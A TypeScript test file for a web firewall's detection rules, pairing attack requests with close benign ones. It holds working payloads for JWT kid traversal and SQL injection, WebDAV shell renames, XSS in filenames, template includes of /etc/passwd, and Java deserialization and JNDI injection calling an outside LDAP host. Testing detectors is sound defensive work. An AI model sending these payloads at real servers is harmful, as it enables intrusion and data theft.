/**
 * Bundled rules of rev 2026-12-10b and 10c (issue 18, session 26): mechanisms held-out-19's misses showed after its blind
 * measurement, written for the class of exploit rather than the product. Each fires on its attack, sent the way such an
 * exploit sends it, and stays quiet on the benign request closest to it: a PDF with an ordinary font matrix, JWTs with a
 * rotation kid and a hostname jku, a WebDAV rename between documents, a home-directory path and a file with a tilde, a
 * wiki title ending in a question mark, a template including its own partials, an upload name with angle brackets and an
 * apostrophe, and a remoting call (RMI over HTTP, AMF) naming only the application's own classes.
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postJson } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const upload = (name: string, type: string, content: string): RequestSpec => ({
  method: 'POST',
  url: '/api/files',
  headers: [...BROWSER, ['Content-Type', 'multipart/form-data; boundary=----WebKitFormBoundaryq9']],
  body: `------WebKitFormBoundaryq9\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n------WebKitFormBoundaryq9--\r\n`,
});
const b64url = (v: unknown): string => Buffer.from(JSON.stringify(v)).toString('base64url');
const jwt = (header: unknown): string => `${b64url(header)}.${b64url({ sub: 'admin', exp: 1900000000 })}.c2lnbmF0dXJl`;
const pdf = (font: string): string => `%PDF-1.4\n4 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Helvetica ${font} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`;
const move = (from: string, to: string, method = 'MOVE'): RequestSpec => ({ method, url: from, headers: [...BROWSER, ['Destination', `http://files.example.test${to}`], ['Overwrite', 'T']] });
const binary = (url: string, type: string, body: string): RequestSpec => ({ method: 'POST', url, headers: [...BROWSER, ['Content-Type', type]], body });
const jstr = (s: string): string => `\x00${String.fromCharCode(s.length)}${s}\x12\x34\x56\x78\x9a\xbc\xde\xf0\x02\x00\x01xpsr`;
const JRMI = 'JRMI\x00\x02\x4c\x50\xac\xed\x00\x05w\x22' + '\x11'.repeat(0x22) + 'sr';
const amf = (cls: string, arg: string): string => `\x00\x03\x00\x00\x00\x01\x00\x04null\x00\x02/1\x00\x00\x00\x40\x11\x0a\x07${String.fromCharCode((cls.length << 1) | 1)}${cls}\x00${String.fromCharCode(arg.length)}${arg}`;

const CASES: RuleCase[] = [
  [9000262, 'block', 'a PDF FontMatrix holding a string that runs script', upload('invoice-17.pdf', 'application/pdf', pdf('/FontMatrix [0.1 0 0 0.1 0 (0\\); alert\\(document.domain\\); //)]')), upload('invoice-17.pdf', 'application/pdf', pdf('/FontMatrix [0.001 0 0 0.001 0 0] /FontName (Helvetica)'))],
  [9001267, 'block', 'a bearer JWT whose kid walks to /dev/null', get('/api/admin/users', [['Authorization', `Bearer ${jwt({ alg: 'HS256', typ: 'JWT', kid: '../../../../dev/null' })}`]]), get('/api/admin/users', [['Authorization', `Bearer ${jwt({ alg: 'RS256', typ: 'JWT', kid: '2024-rotation-1', jku: 'https://login.example.com/.well-known/jwks.json' })}`]])],
  [9001267, 'block', 'a bearer JWT whose jku names a bare IP address', get('/api/v1/me', [['Authorization', `Bearer ${jwt({ alg: 'RS256', jku: 'http://198.51.100.7:8000/k.json', kid: 'x' })}`]]), get('/api/v1/me', [['Authorization', `Bearer ${jwt({ alg: 'ES256', kid: 'k-9f3a', x5u: 'https://pki.example.com/certs/signing.pem' })}`]])],
  [9001268, 'block', 'a cookie JWT whose kid closes into SQL', get('/admin/settings', [['Cookie', `token=${jwt({ alg: 'HS256', typ: 'JWT', kid: "ab' UNION SELECT 'kkkk' -- " })}; lang=en`]]), get('/admin/settings', [['Cookie', `token=${jwt({ alg: 'HS256', typ: 'JWT', kid: "tenant-o'brien" })}; lang=en`]])],
  [9001269, 'block', 'a JWT in a query parameter whose kid walks to /dev/null', get(`/api/verify?token=${jwt({ alg: 'HS256', kid: '../../../../dev/null' })}`), get(`/api/verify?token=${jwt({ alg: 'HS256', kid: 'v2/2024-06' })}&next=../account`)],
  [9001278, 'block', 'a JWT posted to a refresh endpoint whose kid closes into SQL', postJson('/api/token/refresh', `{"refresh_token":"${jwt({ alg: 'HS256', kid: "x' OR '1'='1" })}"}`), postJson('/api/token/refresh', `{"refresh_token":"${jwt({ alg: 'RS256', kid: 'sig-1', jku: 'https://auth.example.com/jwks' })}","note":"../ and ' OR in a note"}`)],
  [9001460, 'block', 'a WebDAV MOVE of a .txt onto a .jsp', move('/webdav/ab12c.txt', '/webdav/shell.jsp'), move('/webdav/report.docx', '/webdav/archive/report-2024.docx')],
  [9001460, 'block', 'a WebDAV COPY onto x.asp;.txt', move('/uploads/a.txt', '/uploads/x.asp;.txt', 'COPY'), move('/uploads/index.php', '/uploads/index.php.bak', 'COPY')],
  [9000471, 'block', 'a script read through its ::$DATA stream', get('/login.php::$DATA'), get('/~alice/notes/index.php?view=data')],
  [9000471, 'block', 'WEB-INF read through its 8.3 short name', get('/WEB-IN~1/web.xml'), get('/download/backup~2.zip')],
  [9000472, 'block', 'an upload name truncated at an encoded question mark into .php', get('/uploads/kq3vzx.gif%3Fabc.php?c=id'), get('/wiki/Is_PHP_fast%3F')],
  [9000472, 'block', '/etc/passwd through a RewriteRule user segment', get('/user/orange%2F..%2F..%2F..%2Fetc%2Fpasswd%3F'), get('/search?q=config.php%3F&page=2')],
  [9000765, 'block', 'a Liquid include of /etc/passwd by dot-dot steps', postJson('/api/notifications/preview', '{"template":"Hello {{ name }} {% include \'../../../../etc/passwd\' %}"}'), postJson('/admin/theme/save', '{"template":"{% include \'../../partials/header.liquid\' %}{% render \'product-card\' %}"}')],
  [9000765, 'block', 'a Jinja import of an absolute system path', postJson('/api/templates/test', '{"source":"{% import \\"/etc/hosts\\" as h %}"}'), postJson('/api/templates/test', '{"source":"{% extends \\"../../layouts/base.html\\" %}{% import \\"macros/forms.html\\" as f %}"}')],
  [9000263, 'block', 'an upload name holding an img onerror', upload('AtSa"><img src=x onerror=alert(document.domain)>.png', 'image/png', '\x89PNG\r\n\x1a\nabc'), upload('Q3 report <a> final <img> v2.pdf', 'application/pdf', '%PDF-1.4\n')],
  [9000240, 'block', 'an upload name breaking out of a JS string', upload("s6Kq'-alert(document.cookie)-'.pdf", 'application/pdf', '%PDF-1.4\n'), upload("O'Brien - notes (draft).pdf", 'application/pdf', '%PDF-1.4\n')],
  [9001021, 'block', 'an RMI call tunnelled over HTTP carrying a Commons Collections chain', binary('/cgi-bin/java-rmi.cgi?forward=1099', 'application/octet-stream', `${JRMI}${jstr('java.rmi.server.ObjID')}${jstr('java.util.HashMap')}${jstr('org.apache.commons.collections.keyvalue.TiedMapEntry')}${jstr('org.apache.commons.collections.functors.ChainedTransformer')}t\x00\x02idx`), binary('/cgi-bin/java-rmi.cgi?forward=1099', 'application/octet-stream', `${JRMI}${jstr('java.rmi.server.ObjID')}${jstr('com.acme.inventory.StockQuery')}t\x00\x05SKU-1x`)],
  [9001021, 'block', 'an AMF message naming JdbcRowSetImpl with an LDAP URL', binary('/flex2gateway/amf', 'application/x-amf', amf('com.sun.rowset.JdbcRowSetImpl', 'ldap://198.51.100.7:1389/a')), binary('/flex2gateway/amf', 'application/x-amf', amf('flex.messaging.messages.RemotingMessage', 'com.acme.OrderService'))],
];

describe("bundled rules for held-out-19's exploit mechanisms (rev 2026-12-10b)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
